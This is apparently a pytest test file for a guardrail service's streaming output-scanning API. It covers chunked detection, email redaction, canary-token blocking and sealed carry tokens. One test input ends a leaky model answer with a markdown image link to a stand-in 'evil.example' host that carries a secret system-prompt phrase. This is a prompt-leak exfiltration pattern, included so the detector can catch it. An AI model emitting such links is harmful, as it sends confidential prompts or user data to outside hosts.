"""``POST /detect/output/stream`` over HTTP: the pieces of an answer, carried by the caller."""

import random
from typing import Any

import pytest

from guardhouse.detections.engine_pool import EngineFailedError
from guardhouse.detections.output import scan_piece as pieces
from guardhouse.detections.output.carry import MOST_CHARACTERS
from guardhouse.foundation.clock import SetClock
from guardhouse.foundation.resources import Resources
from server.tests.analysis.injection.answers import PHRASE, PROMPT, leaky_answer
from server.tests.components.door_at_noon import clock, door, host, resources
from server.tests.components.postgres import Clone
from server.tests.ingest.make import Door, open_door

__all__ = ["clock", "door", "host", "resources"]

STREAM = "/api/v1/detect/output/stream"
ORDER = ["allow", "redact", "review", "block"]


async def send(door: Door, chunk: str, carry: str | None = None, **more: Any) -> dict[str, Any]:
    answer = await door.post(STREAM, {"chunk": chunk, "carry": carry} | more)
    assert answer.status_code == 200, answer.text
    found: dict[str, Any] = answer.json()
    return found


async def stream(door: Door, chunks: list[str], **more: Any) -> list[dict[str, Any]]:
    """Send all chunks, and check what each answer must hold."""
    answers: list[dict[str, Any]] = []
    carry, held = None, 0
    for number, chunk in enumerate(chunks):
        body = await send(door, chunk, carry, final=number == len(chunks) - 1, sequence=number, **more)
        assert body["sequence"] == number
        held += len(chunk)
        assert body["release"] + body["hold_back"] == held
        held, carry = body["hold_back"], body["carry"]
        assert carry is None or len(carry) <= MOST_CHARACTERS
        assert (carry is None) == (number == len(chunks) - 1)
        answers.append(body)
    decisions = [ORDER.index(body["decision"]) for body in answers]
    assert decisions == sorted(decisions)
    return answers


def newest(answers: list[dict[str, Any]]) -> dict[tuple[Any, ...], Any]:
    told = [one for body in answers for one in body["findings"]]
    return {(one["kind"], one["detector"], one["span"][0]): one["span"][1] for one in told}


@pytest.mark.parametrize("seed", range(4))
async def test_pieces_find_what_the_whole_holds(door: Door, seed: int) -> None:
    chance = random.Random(seed)
    text = leaky_answer(chance) + f" ![x](https://evil.example/?q={PHRASE.replace(' ', '+')})"
    prompt = f"{PROMPT} Remember: {PHRASE}."
    answer = await door.post("/api/v1/detect/output", {"text": text, "system_prompt": prompt})
    whole = answer.json()
    cuts = sorted(chance.randint(0, len(text)) for _ in range(4))
    chunks = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    answers = await stream(door, chunks, system_prompt=prompt)
    assert newest(answers) == newest([whole])
    assert answers[-1]["decision"] == whole["decision"]


async def test_what_is_shown_has_names_for_what_was_found(door: Door) -> None:
    text = "Please write to ann.lee@shop.example before noon, or come by. " + "The shop is open. " * 20
    chunks = [text[n : n + 25] for n in range(0, len(text), 25)]
    answers = await stream(door, chunks)
    shown = "".join(body["released_text"] for body in answers)
    assert shown == text.replace("ann.lee@shop.example", "[EMAIL]")
    assert sum(body["release"] for body in answers) == len(text)
    assert answers[-1]["decision"] == "review"


async def test_after_a_block_nothing_more_is_shown(door: Door) -> None:
    token = (await door.post("/api/v1/canaries", {"label": "a"})).json()["token"]
    chunks = [
        "The weather is nice. " * 10,
        f"Here it is: {token[:12]}",
        f"{token[12:]} and so on. ",
        "x " * 200,
    ]
    answers = await stream(door, chunks)
    assert answers[0]["decision"] == "allow"
    assert answers[-1]["decision"] == "block"
    shown = "".join(body["released_text"] for body in answers)
    assert token[:12] not in shown
    assert answers[-1]["release"] == 0


async def test_the_same_piece_may_be_sent_again(door: Door) -> None:
    first = await send(door, "The weather is nice in the old town. " * 8)
    again = [await send(door, "Write to ann@shop.example now. " * 3, first["carry"]) for _ in range(2)]
    assert [one["findings"] for one in again] == [again[0]["findings"]] * 2


async def test_long_words_of_rare_letters_still_fit_the_carry(door: Door) -> None:
    letters = "".join(chr(0x1D400 + n * 7 % 900) for n in range(1_500))
    await stream(door, [letters, letters[::-1], "end"], system_prompt=PROMPT)


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        ({"carry": "x"}, "tampered"),
        ({"carry": ""}, "tampered"),
        ({"carry": "A" * 5_000}, "tampered"),
        ({"carry": "é"}, "tampered"),
        ({"system_prompt": PROMPT}, "settings_changed"),
        ({"sequence": 0}, "out_of_sequence"),
        ({"sequence": 2}, "out_of_sequence"),
        ({"carry": None, "sequence": 1}, "out_of_sequence"),
    ],
)
async def test_a_carry_that_is_not_good_stops_the_stream(
    door: Door, change: dict[str, Any], reason: str
) -> None:
    carry = (await send(door, "Hello there"))["carry"]
    answer = await door.post(STREAM, {"chunk": "x", "carry": carry} | change)
    said = answer.json()
    assert (answer.status_code, said["code"], said["reason"]) == (422, "carry_invalid", reason)
    assert "Stop the stream" in said["remediation"]


async def test_every_byte_of_a_carry_is_sealed(door: Door) -> None:
    carry = (await send(door, "Hello there"))["carry"]
    for place in range(0, len(carry), 37):
        other = "A" if carry[place] != "A" else "B"
        answer = await door.post(STREAM, {"chunk": "x", "carry": carry[:place] + other + carry[place + 1 :]})
        assert answer.json()["code"] == "carry_invalid"


async def test_a_carry_expires_and_belongs_to_one_tenant(
    door: Door, clock: SetClock, resources: Resources, database: Clone
) -> None:
    carry = (await send(door, "Hello there"))["carry"]
    async with open_door(resources, database.superuser_url, slug="other") as other:
        answer = await other.post(STREAM, {"chunk": "x", "carry": carry})
        assert (answer.json()["code"], answer.json()["reason"]) == ("carry_invalid", "tampered")
    clock.move(599)
    assert (await send(door, "x", carry))["sequence"] == 1
    clock.move(2)
    answer = await door.post(STREAM, {"chunk": "x", "carry": carry})
    assert (answer.json()["code"], answer.json()["reason"]) == ("carry_invalid", "expired")


async def test_another_policy_cannot_take_over_a_stream(door: Door) -> None:
    made = await door.post("/api/v1/policies", {"name": "other"})
    policies = await door.client.get("/api/v1/policies", headers={"X-API-Key": door.key})
    default = next(one for one in policies.json()["data"] if one["name"] == "default")
    first = await send(door, "Hello there", policy=default["id"])
    answer = await door.post(STREAM, {"chunk": "x", "carry": first["carry"], "policy": made.json()["id"]})
    assert answer.json()["code"] == "carry_invalid"


@pytest.mark.parametrize(
    ("body", "code", "pointer"),
    [
        ({}, "text_required", "/chunk"),
        ({"chunk": None}, "text_type", "/chunk"),
        ({"chunk": "x", "carry": 1}, "member_invalid", "/carry"),
        ({"chunk": "x", "final": "yes"}, "member_invalid", "/final"),
        ({"chunk": "x", "sequence": True}, "member_invalid", "/sequence"),
        ({"chunk": "x" * 100_001}, "text_too_long", "/chunk"),
    ],
)
async def test_bad_pieces_are_refused(door: Door, body: Any, code: str, pointer: str) -> None:
    said = (await door.post(STREAM, body)).json()
    assert (said["status"], said["code"], said["errors"][0]["pointer"]) == (422, code, pointer)


async def test_a_piece_that_no_engine_scans_may_be_sent_again(
    door: Door, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def fails(*_: object) -> None:
        raise EngineFailedError("the engine has been stopped")

    monkeypatch.setattr(pieces, "scan_text", fails)
    answer = await door.post(STREAM, {"chunk": "Hello", "carry": None, "final": True})
    assert (answer.status_code, answer.json()["code"], answer.headers["retry-after"]) == (
        503,
        "scan_failed",
        "1",
    )


async def test_an_empty_piece_may_end_a_stream(door: Door) -> None:
    answers = await stream(door, ["Write to ann@shop.example", ""])
    assert [one["kind"] for one in answers[-1]["findings"]] == ["pii"]
    assert (await send(door, "", final=True))["decision"] == "allow"
